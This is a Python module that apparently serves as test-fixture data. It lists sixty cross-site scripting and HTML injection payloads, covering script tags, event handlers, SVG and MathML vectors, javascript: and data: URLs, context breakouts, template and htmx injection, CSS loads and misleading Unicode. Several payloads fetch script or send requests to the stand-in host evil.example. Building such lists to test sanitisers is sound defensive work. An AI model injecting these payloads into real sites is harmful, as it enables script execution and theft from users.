"""Sixty texts that would like to be more than text.

If one of them runs, it sets `window.xss`, opens a window or asks `evil.example`; if one becomes a
part of the page, it has the attribute `data-xss`.
"""

__all__ = ["PAYLOADS"]

_RUN = "window.xss=1;alert(1)"

PAYLOADS: tuple[str, ...] = (
    # Scripts
    f"<script data-xss>{_RUN}</script>",
    f"</script><script data-xss>{_RUN}</script>",
    "<script data-xss src=//evil.example/a.js></script>",
    f"<ScRiPt data-xss>{_RUN}</sCrIpT>",
    f"<scr<script>ipt data-xss>{_RUN}</scr</script>ipt>",
    f"<script data-xss type=module>import '//evil.example/m.js';{_RUN}</script>",
    f"\\u003cscript data-xss\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script data-xss&gt;{_RUN}&lt;/script&gt;",
    # Events
    f'<img data-xss src=x onerror="{_RUN}">',
    f"<img data-xss src=//evil.example/p.png onload={_RUN}>",
    f'" autofocus data-xss onfocus="{_RUN}" x="',
    f"' autofocus data-xss onfocus='{_RUN}' x='",
    f'"><img data-xss src=x onerror={_RUN}>',
    f"<body data-xss onload={_RUN}>",
    f"<details data-xss open ontoggle={_RUN}>",
    f"<video data-xss><source onerror={_RUN}></video>",
    f"<input data-xss autofocus onfocus={_RUN}>",
    f"<marquee data-xss onstart={_RUN}>",
    f"<div data-xss onpointerover={_RUN} class=page>over here</div>",
    f"<a data-xss href=# style=animation-name:arrive onanimationstart={_RUN}>x</a>",
    # SVG and MathML
    f"<svg data-xss onload={_RUN}>",
    f"<svg data-xss><script>{_RUN}</script></svg>",
    f"<svg data-xss><animate onbegin={_RUN} attributeName=x dur=1s>",
    "<svg data-xss><use href=//evil.example/s.svg#x></svg>",
    f"<svg><a data-xss xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<math data-xss><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></math>",
    # Addresses
    f"javascript:{_RUN}",
    f"JaVaScRiPt&colon;{_RUN}",
    f"java\tscript:{_RUN}",
    f"[click](javascript:{_RUN})",
    "![p](//evil.example/p.png)",
    "data:text/html,<script data-xss>parent.xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzPTE8L3NjcmlwdD4=",
    "//evil.example/%2f..",
    "https://evil.example\\@127.0.0.1/",
    f"vbscript:{_RUN}",
    # Out of what they stand in
    f"</textarea><img data-xss src=x onerror={_RUN}>",
    f"</title><script data-xss>{_RUN}</script>",
    f"</style><script data-xss>{_RUN}</script>",
    f"--><script data-xss>{_RUN}</script><!--",
    f"]]><script data-xss>{_RUN}</script>",
    f"</code></pre></a></li></ul></main><h1 data-xss onclick={_RUN}>gone</h1>",
    "<base data-xss href=//evil.example/>",
    "<meta data-xss http-equiv=refresh content='0;url=//evil.example/'>",
    "<iframe data-xss src=//evil.example/></iframe>",
    f"<iframe data-xss srcdoc='<script>parent.xss=1;{_RUN}</script>'></iframe>",
    "<object data-xss data=//evil.example/></object>",
    "<form data-xss action=//evil.example/><input name=q><button>go</button></form>",
    # Styles
    "<style data-xss>*{display:none}body{background:url(//evil.example/c)}</style>",
    "<link data-xss rel=stylesheet href=//evil.example/c.css>",
    '<p data-xss style="position:fixed;inset:0;background:url(//evil.example/c)">over all</p>',
    # What the pages are made with
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    '<div data-xss hx-get="//evil.example/h" hx-trigger="load"></div>',
    f'<div data-xss hx-on:htmx:load="{_RUN}" hx-on::load="{_RUN}" hx-vals="js:{{a:{_RUN}}}"></div>',
    '<div data-xss hx-ext="sse" sse-connect="//evil.example/s" sse-swap="message"></div>',
    "<a data-xss id=orbiter name=orbiter></a><form data-xss id=htmx><input name=config></form>",
    # Letters that mislead, and such as break a line
    "moc.elpmaxe \u202egpj.exe\u202c \u2066hidden\u2069 \u200f\u061c end",
    "Z\u0351\u036b\u0343a\u0334\u0321\u033bl\u0335\u0327g\u0337\u0328o\u0338" * 9,
    "W" * 230,
    "ﷺ שלום مرحبا \u200b\ufeff\u00ad\u2028next\u2029line \x7f\x85 \U000e0041",
)
"""Scripts, events, drawings, addresses, ways out, styles, marks of our own, and letters."""

assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
